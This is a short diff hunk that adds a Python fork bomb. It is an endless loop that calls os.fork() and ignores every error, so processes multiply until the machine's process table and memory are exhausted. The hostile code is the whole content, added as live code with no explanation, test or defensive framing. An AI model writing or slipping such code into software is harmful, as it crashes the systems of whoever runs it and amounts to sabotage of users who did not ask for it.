@@ -1,0 +1,5 @@
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
